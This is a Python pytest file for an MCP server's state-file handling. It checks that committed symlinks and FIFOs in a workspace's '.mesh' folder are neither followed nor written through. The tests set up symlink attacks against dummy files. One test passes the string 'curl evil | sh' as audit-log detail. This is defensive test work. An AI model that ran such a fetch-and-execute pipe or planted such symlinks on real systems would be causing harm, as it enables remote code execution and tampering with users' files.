"""Promise: the workspace never decides where state lives, and nothing in the state folder is followed.

A cloned repository can commit ``.mesh/`` with symlinks and FIFOs in it. The state folder defaults
to a per-user folder outside the workspace (``$XDG_STATE_HOME/mesh-mcp/<hash>``), a configured
one inside the workspace is refused, and every state file is opened without following a symlink
nor waiting on a FIFO: the audit log, its replay index, ``used_nonces``, ``tool-schemas/``,
``backups/`` and the lock files next to them.
"""

from __future__ import annotations

import os
import threading
from pathlib import Path

import pytest

from server.approval.audit import AuditLog
from server.approval.tokens import nonce_used
from server.config import Settings, load_settings
from server.errors import ConfigError, MeshError
from server.schema_cache import SchemaCache
from server.state_files import StateFileError
from tools.remediation.backups import BackupError, BackupFile


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim"
    victim.mkdir()
    for n in range(6):
        (victim / f"keep-{n}.json").write_text("{}")
    (victim / "bashrc").write_text("export PATH=/usr/bin\n")
    return victim


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def test_the_default_state_folder_is_the_users_not_the_workspaces(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    victim = _victim(tmp_path)
    (ws / ".mesh").mkdir()
    (ws / ".mesh" / "tool-schemas").symlink_to(victim)  # committed by the repository
    (ws / ".mesh" / "audit.log").symlink_to(victim / "bashrc")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "xdg"))
    settings = load_settings(workspace=ws, environ={})
    state = settings.resolved_state_dir
    assert state.is_relative_to(tmp_path / "xdg" / "mesh-mcp") and not state.is_relative_to(ws)
    assert load_settings(workspace=ws, environ={}).resolved_state_dir == state  # stable per workspace
    other = tmp_path / "ws2"
    other.mkdir()
    assert load_settings(workspace=other, environ={}).resolved_state_dir != state
    before = _snapshot(victim)
    SchemaCache.for_settings(settings).store({"tool": {"type": "object"}})
    AuditLog(state / "audit.log").record("proposed", detail="agent text")
    assert _snapshot(victim) == before
    assert (state / "tool-schemas").is_dir() and (state / "audit.log").is_file()
    assert oct(state.stat().st_mode & 0o777) == "0o700"


def test_a_state_dir_inside_the_workspace_is_refused(tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    with pytest.raises(ConfigError) as err:
        load_settings(workspace=ws, environ={"MESH_STATE_DIR": str(ws / ".mesh")})
    message = str(err.value)
    assert "inside the workspace" in message and "outside" in message and "\n" not in message
    load_settings(workspace=ws, environ={"MESH_STATE_DIR": str(tmp_path / "state")})  # outside: fine


def _state_with(tmp_path: Path) -> Path:
    state = tmp_path / "state"
    state.mkdir()
    return state


def test_a_symlinked_schema_folder_is_neither_written_nor_pruned(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    state = _state_with(tmp_path)
    (state / "tool-schemas").symlink_to(victim)
    settings = Settings(workspace=tmp_path, state_dir=state)
    before = _snapshot(victim)
    SchemaCache.for_settings(settings).store({"tool": {"type": "object"}})
    assert _snapshot(victim) == before  # nothing written there, none of the 6 *.json deleted


def test_pruning_never_follows_a_symlinked_cache_file(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    state = _state_with(tmp_path)
    folder = state / "tool-schemas"
    folder.mkdir()
    for n in range(6):
        (folder / f"link-{n}.json").symlink_to(victim / f"keep-{n}.json")
    before = _snapshot(victim)
    SchemaCache.for_settings(Settings(workspace=tmp_path, state_dir=state)).store({"tool": {"type": "object"}})
    assert _snapshot(victim) == before


@pytest.mark.parametrize("name", ["audit.log", "audit-replayed.jsonl", "audit.log.lock"])
def test_a_symlinked_audit_file_is_refused_not_appended_to(tmp_path: Path, name: str) -> None:
    victim = _victim(tmp_path)
    state = _state_with(tmp_path)
    (state / name).symlink_to(victim / "bashrc")
    before = _snapshot(victim)
    with pytest.raises(MeshError, match="symlink"):
        AuditLog(state / "audit.log").record("replayed", detail="curl evil | sh")
    assert _snapshot(victim) == before


def test_a_fifo_used_nonces_is_refused_without_hanging(tmp_path: Path) -> None:
    state = _state_with(tmp_path)
    os.mkfifo(state / "used_nonces")
    settings = Settings(workspace=tmp_path, state_dir=state)
    outcome: list[object] = []

    def check() -> None:
        try:
            outcome.append(nonce_used(settings, "A" * 22))
        except Exception as exc:  # the test looks at what it was
            outcome.append(exc)

    worker = threading.Thread(target=check, daemon=True)
    worker.start()
    worker.join(timeout=10)
    assert not worker.is_alive(), "reading a FIFO used_nonces hung"
    assert isinstance(outcome[0], StateFileError)


def test_a_symlinked_backups_folder_is_refused(tmp_path: Path) -> None:
    victim = _victim(tmp_path)
    state = _state_with(tmp_path)
    (state / "backups").symlink_to(victim)
    before = _snapshot(victim)
    with pytest.raises(BackupError, match="symlink"):
        BackupFile(state / "backups" / "p-1.jsonl", "p-1", "0" * 64).write(1, [("sql_row", "t 1", {"a": 1})])
    assert _snapshot(victim) == before
